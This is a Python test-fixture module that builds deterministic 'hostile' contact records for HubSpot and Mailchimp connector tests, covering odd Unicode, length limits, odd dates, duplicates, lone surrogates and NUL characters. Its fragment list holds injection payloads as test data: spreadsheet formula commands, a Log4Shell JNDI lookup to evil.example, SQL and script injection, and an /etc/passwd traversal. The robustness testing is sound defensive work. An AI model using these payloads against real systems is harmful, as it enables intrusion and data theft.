"""A deterministic corpus of hostile people, drawn from what each vendor's API accepts.

Values are what a user or an import can put into the vendor and its API hands back: control
and zero-width characters, right-to-left and combining text, formula-like strings, values at
the vendor's length limit, odd but valid dates, duplicates, empty records, and (where the API
takes them) lone surrogates and NUL characters. A person whose mapped value the store cannot
hold is marked with the vendor field the engine must name when it quarantines the record.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace
from datetime import date
from typing import Any

from connectors.toolkit.sandbox import SeedPerson

FRAGMENTS: tuple[str, ...] = (
    "Ærøskøbing",
    "O'Brien-Żółć",
    "\u202eevil\u202c",
    "שלום עולם",
    "مرحبا بالعالم",
    "\u200fright\u200f",
    "Z\u0351\u0328a\u0315l\u0361g\u0334o",
    "e" + "\u0301" * 40,
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "ctl\x01\x02\x07\x08\x0b\x0c\x1b\x1f\x7f",
    "tab\tnew\nline\rret",
    '=HYPERLINK("http://evil.example/x","click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'; DROP TABLE customer;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%n%x",
    "../../etc/passwd",
    "👨\u200d👩\u200d👧\u200d👦",
    "𝕳𝖊𝖑𝖑𝖔",
    "李小龍",
    "山田太郎",
    "NULL",
    "undefined",
    "NaN",
    "1e309",
    "-0",
    "İstanbul ıi",
    "Straße",
    "ﬁﬂ",
    "\u00a0\u2003\u3000",
)
"""Pieces that hostile values are built from (none holds a lone surrogate or NUL)."""

ODD_DATES = (
    date(1, 1, 1),
    date(1900, 1, 1),
    date(1900, 2, 28),
    date(2000, 2, 29),
    date(2024, 2, 29),
    date(1969, 12, 31),
    date(9999, 12, 31),
)
ODD_PHONES = (
    "+49 (0) 30 1234567 ext. 99",
    "++++",
    "0" * 40,
    "+1" + "9" * 60,
    "١٢٣٤٥٦٧٨٩",
    "☎ 030/123",
    "+cmd|' /C calc'!A0",
    "tel:+4930123",
)
STAGES = ("subscriber", "lead", "customer", "other")


@dataclass(frozen=True)
class Vendor:
    """What one vendor's API accepts in a text value, and the vendor names of mapped fields."""

    name: str
    max_text: int
    takes_surrogates: bool
    fields: dict[str, str]
    """SeedPerson attribute → the vendor field it is mapped from (mapped fields only)."""


HUBSPOT = Vendor(
    "hubspot",
    65_536,
    takes_surrogates=True,
    fields={
        "first_name": "firstname",
        "last_name": "lastname",
        "phone": "phone",
        "company": "company",
        "job_title": "jobtitle",
        "street": "address",
        "postcode": "zip",
        "city": "city",
        "country": "country",
    },
)
MAILCHIMP = Vendor(
    "mailchimp",
    255,
    takes_surrogates=False,
    fields={
        "first_name": "merge_fields.FNAME",
        "last_name": "merge_fields.LNAME",
        "phone": "merge_fields.PHONE",
        "company": "merge_fields.COMPANY",
    },
)
TEXT_FIELDS = ("first_name", "last_name", "phone", "company", "job_title", "street", "city")


@dataclass(frozen=True)
class Hostile:
    """One seeded person; ``bad_field`` is the vendor field the engine cannot take in."""

    person: SeedPerson
    bad_field: str | None = None
    bad_kind: str | None = None


def corpus(vendor: Vendor, count: int, seed: int) -> list[Hostile]:
    """``count`` hostile people for ``vendor``, the same for the same seed."""
    rng = random.Random(seed)
    out = [_person(vendor, rng, i) for i in range(count)]
    return out + _duplicates(vendor, out, rng)


def _person(vendor: Vendor, rng: random.Random, i: int) -> Hostile:
    values: dict[str, Any] = {n: _text(vendor, rng) for n in TEXT_FIELDS if rng.random() < 0.7}
    if rng.random() < 0.3:
        values["phone"] = rng.choice(ODD_PHONES)
    is_empty = i % 40 == 7
    if is_empty:
        values = {}  # an empty record (HubSpot: not even an address; Mailchimp needs one)
    if i % 37 == 3:
        values[rng.choice(TEXT_FIELDS)] = _at_limit(vendor, rng)
    person = SeedPerson(
        email=None if is_empty and vendor is HUBSPOT else _email(vendor, rng, i),
        birthday=rng.choice(ODD_DATES) if rng.random() < 0.3 else None,
        lifecycle_stage=rng.choice(STAGES) if vendor is HUBSPOT and rng.random() < 0.5 else None,
        email_status=rng.choice(("subscribed", "subscribed", "unsubscribed", "pending")),
        tags=tuple(rng.sample(FRAGMENTS, 2)) if vendor is MAILCHIMP and rng.random() < 0.3 else (),
        **{k: v for k, v in values.items() if v.strip()},
    )
    if i % 5 == 2:
        return _poisoned(vendor, person, rng)
    return Hostile(person)


def _poisoned(vendor: Vendor, person: SeedPerson, rng: random.Random) -> Hostile:
    """A value the vendor takes and the store cannot hold, in one mapped field."""
    attribute = rng.choice(sorted(vendor.fields))
    is_surrogate = vendor.takes_surrogates and rng.random() < 0.6
    poison = "Sur\ud800rogate" if is_surrogate else "N\x00ul"
    kind = "lone surrogate" if is_surrogate else "NUL character"
    changes: dict[str, Any] = {attribute: f"{_short(rng)}{poison}{_short(rng)}"}
    person = replace(person, **changes)
    return Hostile(person, vendor.fields[attribute], kind)


def _text(vendor: Vendor, rng: random.Random) -> str:
    text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 3)))
    return text[: vendor.max_text]


def _short(rng: random.Random) -> str:
    return rng.choice(FRAGMENTS)[:12]


def _at_limit(vendor: Vendor, rng: random.Random) -> str:
    """A value of exactly the vendor's limit, without spaces at its ends (vendors strip)."""
    body = "".join(rng.choice(FRAGMENTS) for _ in range(8)).strip() or "x"
    text = (body * (vendor.max_text // len(body) + 1))[: vendor.max_text - 2]
    return f"A{text}Z"


def _email(vendor: Vendor, rng: random.Random, i: int) -> str:
    local = rng.choice(("h", "O'Brien", "a.b+tag", "UPPER", "x_y-z", "1234"))
    if vendor is HUBSPOT and i % 29 == 11:
        local += "\u200b"  # HubSpot's check takes any non-space character; Mailchimp's is stricter
    address = f"{local}.{vendor.name}{i}@example.com"
    if vendor is HUBSPOT and i % 53 == 5:
        return "l" * (vendor.max_text - len(address)) + address  # at HubSpot's length limit
    return address


def _duplicates(vendor: Vendor, people: list[Hostile], rng: random.Random) -> list[Hostile]:
    """Mailchimp keeps one member per lower-cased address: the same address again, re-cased,
    replaces the member; HubSpot refuses a second contact with an address, so its duplicates
    are the same person under another address."""
    good = [h for h in people if h.bad_field is None and h.person.email]
    picked = rng.sample(good, 8)
    if vendor is MAILCHIMP:
        return [
            Hostile(replace(h.person, email=(h.person.email or "").upper(), tags=()))
            for h in picked
        ]
    return [
        Hostile(replace(h.person, email=f"dup{n}.{h.person.email}")) for n, h in enumerate(picked)
    ]
